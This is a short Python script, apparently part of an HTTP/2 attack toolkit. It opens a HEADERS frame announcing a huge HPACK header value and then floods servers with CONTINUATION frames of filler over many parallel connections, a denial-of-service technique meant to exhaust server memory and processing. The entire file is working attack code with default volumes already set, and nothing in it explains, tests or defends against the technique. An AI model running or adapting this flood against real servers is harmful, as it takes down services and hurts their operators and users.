"""One header whose value is megabytes long: a string that HPACK announces, in as many frames as it takes."""
from attack_program import MATCH, program
from h2wire import CONTINUATION, HEADERS, frame, integer, request_block, text

FRAME_BYTES = 16384


def run(attack):
    length = attack.options.value_megabytes * 1_000_000
    begin = frame(HEADERS, 0, 1, request_block(MATCH) + b"\x00" + text("x-huge") + integer(length, 7))
    part = frame(CONTINUATION, 0, 1, b"z" * FRAME_BYTES)

    def block(connection, _):
        first, connection.begun = (b"" if getattr(connection, "begun", False) else begin), True
        return first + part * 4
    attack.flood(block, attack.options.count)


if __name__ == "__main__":
    program(__doc__, run, count=4_600, connections=75, megabytes=300, value_megabytes=16)
